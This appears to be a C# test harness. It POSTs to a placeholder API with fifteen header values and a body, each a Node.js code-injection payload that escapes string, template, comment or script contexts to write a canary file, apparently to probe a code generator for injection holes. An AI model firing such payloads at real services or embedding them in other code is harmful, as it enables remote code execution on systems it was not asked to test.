using System;
using System.Net.Http;
using System.Net.Http.Headers;
using System.Text;

using var handler = new SocketsHttpHandler
{
    RequestHeaderEncodingSelector = (name, message) => Encoding.UTF8,
};
using var client = new HttpClient(handler);
using var request = new HttpRequestMessage(HttpMethod.Post, "https://api.example.com/run");
request.Headers.Add("X-Try-1", "${require('fs').writeFileSync('snipgen-canary','')}");
request.Headers.Add("X-Try-2", "'+require('fs').writeFileSync('snipgen-canary','')+'");
request.Headers.Add("X-Try-3", "\"+require('fs').writeFileSync('snipgen-canary','')+\"");
request.Headers.Add("X-Try-4", "`+require('fs').writeFileSync('snipgen-canary','')+`");
request.Headers.Add("X-Try-5", "\\`+require('fs').writeFileSync('snipgen-canary','')+\\`");
request.Headers.Add("X-Try-6", "\\${require('fs').writeFileSync('snipgen-canary','')}");
request.Headers.Add("X-Try-7", "\\'+require('fs').writeFileSync('snipgen-canary','')+\\'");
request.Headers.Add("X-Try-8", "\\u0027+require('fs').writeFileSync('snipgen-canary','')+\\u0027");
request.Headers.Add("X-Try-9", "\\x60+require('fs').writeFileSync('snipgen-canary','')+\\x60");
request.Headers.Add("X-Try-10", "${process.binding('fs')}");
request.Headers.Add("X-Try-11", "*/require('fs').writeFileSync('snipgen-canary','')/*");
request.Headers.Add("X-Try-12", "</script><script>require('fs').writeFileSync('snipgen-canary','')</script>");
request.Headers.Add("X-Try-14", "\u2028require('fs').writeFileSync('snipgen-canary','')\u2029require('fs').writeFileSync('snipgen-canary','')//");
request.Headers.Add("X-Try-15", "\\");
request.Content = new StringContent("${require('fs').writeFileSync('snipgen-canary','')}\n'+require('fs').writeFileSync('snipgen-canary','')+'\n\"+require('fs').writeFileSync('snipgen-canary','')+\"\n`+require('fs').writeFileSync('snipgen-canary','')+`\n\\`+require('fs').writeFileSync('snipgen-canary','')+\\`\n\\${require('fs').writeFileSync('snipgen-canary','')}\n\\'+require('fs').writeFileSync('snipgen-canary','')+\\'\n\\u0027+require('fs').writeFileSync('snipgen-canary','')+\\u0027\n\\x60+require('fs').writeFileSync('snipgen-canary','')+\\x60\n${process.binding('fs')}\n*/require('fs').writeFileSync('snipgen-canary','')/*\n</script><script>require('fs').writeFileSync('snipgen-canary','')</script>\n<!--require('fs').writeFileSync('snipgen-canary','')\n-->require('fs').writeFileSync('snipgen-canary','')\n\u2028require('fs').writeFileSync('snipgen-canary','')\u2029require('fs').writeFileSync('snipgen-canary','')//\n\\");
request.Content.Headers.ContentType = new MediaTypeHeaderValue("text/plain");

using var response = await client.SendAsync(request);
Console.WriteLine(await response.Content.ReadAsStringAsync());
